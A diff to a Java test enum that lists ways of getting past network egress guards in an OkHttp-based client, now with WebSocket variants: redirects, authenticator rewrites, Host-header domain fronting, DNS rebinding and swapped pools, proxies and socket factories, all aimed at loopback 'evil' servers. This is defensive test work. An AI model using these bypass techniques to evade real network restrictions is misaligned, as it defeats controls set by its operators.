@@ -15,6 +15,7 @@ import java.util.List;
 import java.util.Locale;
 import java.util.Set;
 import java.util.concurrent.atomic.AtomicInteger;
+import okhttp3.Protocol;
 import okhttp3.Request;
 import okhttp3.mockwebserver.MockResponse;
 
@@ -143,7 +144,7 @@ enum Bypass {
         }
     },
     /** OkHttp runs no network interceptor for a WebSocket. */
-    REDIRECT_OF_A_WEB_SOCKET(Set.of(Layer.REDIRECTS)) {
+    REDIRECT_OF_A_WEB_SOCKET(Set.of(Layer.REDIRECTS, Layer.UPGRADE)) {
         @Override
         boolean arrives(BypassWorld world) {
             world.answer = request -> LoopbackServer.redirect(302, "/admin");
@@ -159,7 +160,7 @@ enum Bypass {
             return world.arrivedAt("evil");
         }
     },
-    AUTHENTICATOR_OF_A_WEB_SOCKET_WITH_ANOTHER_HOST(Set.of(Layer.AUTHENTICATORS, Layer.DNS)) {
+    AUTHENTICATOR_OF_A_WEB_SOCKET_WITH_ANOTHER_HOST(Set.of(Layer.AUTHENTICATORS, Layer.DNS, Layer.UPGRADE)) {
         @Override
         boolean arrives(BypassWorld world) {
             challenge(world, world.evil("/steal"));
@@ -167,7 +168,7 @@ enum Bypass {
             return world.arrivedAt("evil");
         }
     },
-    AUTHENTICATOR_OF_A_WEB_SOCKET_WITH_ANOTHER_PATH(Set.of(Layer.AUTHENTICATORS)) {
+    AUTHENTICATOR_OF_A_WEB_SOCKET_WITH_ANOTHER_PATH(Set.of(Layer.AUTHENTICATORS, Layer.UPGRADE)) {
         @Override
         boolean arrives(BypassWorld world) {
             challenge(world, world.allowed("/admin"));
@@ -284,9 +285,9 @@ enum Bypass {
     SWAPPED_POOL(Set.of(Layer.WIRE)) {
         @Override
         boolean arrives(BypassWorld world) {
-            world.meddler =
-                    chain -> SwappedParts.pool(chain, SwappedParts.poolWithConnectionTo(world.evil.port(), chain))
-                            .proceed(chain.request());
+            world.meddler = chain -> SwappedParts.pool(
+                            chain, SwappedParts.poolWithConnectionTo(world.evil.port(), List.of(Protocol.HTTP_2, Protocol.HTTP_1_1), chain))
+                    .proceed(chain.request());
             world.call(world.post(world.allowed("/v1/chat")));
             return world.arrived.stream()
                     .anyMatch(one -> one.server().equals("evil") && one.body().equals(BypassWorld.PROMPT));
@@ -304,6 +305,121 @@ enum Bypass {
                 Proxy swapped = new Proxy(Proxy.Type.HTTP, new InetSocketAddress("127.0.0.1", proxy.port()));
                 world.meddler = chain -> SwappedParts.proxy(chain, swapped).proceed(chain.request());
                 world.call(world.post(world.allowed("/v1/chat")));
+                return world.arrivedAt("allowed") && proxy.connections() > 0;
+            }
+        }
+
+        @Override
+        boolean runsOnRelease(String okHttp) {
+            return SwappedParts.available();
+        }
+    },
+    MEDDLER_OF_A_WEB_SOCKET_WITH_ANOTHER_HOST(Set.of(Layer.DNS, Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.meddler = chain -> chain.proceed(
+                    chain.request().newBuilder().url(world.evil("/steal")).build());
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrivedAt("evil");
+        }
+    },
+    MEDDLER_OF_A_WEB_SOCKET_WITH_ANOTHER_PATH(Set.of(Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.meddler = chain -> chain.proceed(
+                    chain.request().newBuilder().url(world.allowed("/admin")).build());
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrivedWithPath("/admin");
+        }
+    },
+    DOMAIN_FRONTING_OF_A_WEB_SOCKET_BY_THE_CALLER(Set.of(Layer.JUDGE, Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.open(BypassWorld.get(world.allowed("/v1/realtime"))
+                    .newBuilder()
+                    .header("Host", BypassWorld.EVIL)
+                    .build());
+            return world.arrivedFor(BypassWorld.EVIL);
+        }
+    },
+    DOMAIN_FRONTING_OF_A_WEB_SOCKET_BY_A_MEDDLER(Set.of(Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.meddler = chain -> chain.proceed(chain.request()
+                    .newBuilder()
+                    .header("Host", BypassWorld.EVIL)
+                    .build());
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrivedFor(BypassWorld.EVIL);
+        }
+    },
+    /** The same URL, so that the cookie jar sees nothing: an authenticator is the one that is asked behind the last look. */
+    DOMAIN_FRONTING_OF_A_WEB_SOCKET_BY_AN_AUTHENTICATOR(Set.of(Layer.AUTHENTICATORS)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.answer = request -> unauthorized();
+            world.authenticator = (route, response) -> response.request().header("Host") != null
+                    ? null
+                    : response.request()
+                            .newBuilder()
+                            .header("Host", BypassWorld.EVIL)
+                            .build();
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrivedFor(BypassWorld.EVIL);
+        }
+    },
+    SWAPPED_RESOLVER_OF_A_WEB_SOCKET(Set.of(Layer.SOCKETS, Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) throws IOException {
+            world.resolver.set(BypassWorld.REBOUND, "192.0.2.1");
+            world.meddler = chain -> SwappedParts.dns(chain, host -> List.of(InetAddress.getByName("127.0.0.1")))
+                    .proceed(chain.request());
+            world.open("https://" + BypassWorld.REBOUND + ":" + world.inner.port() + "/");
+            return world.arrivedAt("inner");
+        }
+
+        @Override
+        boolean runsOnRelease(String okHttp) {
+            return SwappedParts.available();
+        }
+    },
+    SWAPPED_SOCKET_FACTORY_OF_A_WEB_SOCKET(Set.of(Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.meddler = chain -> SwappedParts.socketFactory(chain, SwappedParts.leadingTo(world.evil.port()))
+                    .proceed(chain.request());
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrivedAt("evil");
+        }
+
+        @Override
+        boolean runsOnRelease(String okHttp) {
+            return SwappedParts.available();
+        }
+    },
+    SWAPPED_POOL_OF_A_WEB_SOCKET(Set.of(Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) {
+            world.meddler = chain -> SwappedParts.pool(
+                            chain, SwappedParts.poolWithConnectionTo(world.evil.port(), List.of(Protocol.HTTP_1_1), chain))
+                    .proceed(chain.request());
+            world.open(world.allowed("/v1/realtime"));
+            return world.arrived.stream()
+                    .anyMatch(one -> one.server().equals("evil") && one.head().contains("Sec-WebSocket-Key"));
+        }
+
+        @Override
+        boolean runsOnRelease(String okHttp) {
+            return SwappedParts.available();
+        }
+    },
+    SWAPPED_PROXY_OF_A_WEB_SOCKET(Set.of(Layer.SOCKETS, Layer.UPGRADE)) {
+        @Override
+        boolean arrives(BypassWorld world) throws IOException {
+            try (TunnelProxy proxy = new TunnelProxy()) {
+                Proxy swapped = new Proxy(Proxy.Type.HTTP, new InetSocketAddress("127.0.0.1", proxy.port()));
+                world.meddler = chain -> SwappedParts.proxy(chain, swapped).proceed(chain.request());
+                world.open(world.allowed("/v1/realtime"));
                 return world.arrivedAt("allowed") && proxy.connections() > 0;
             }
         }
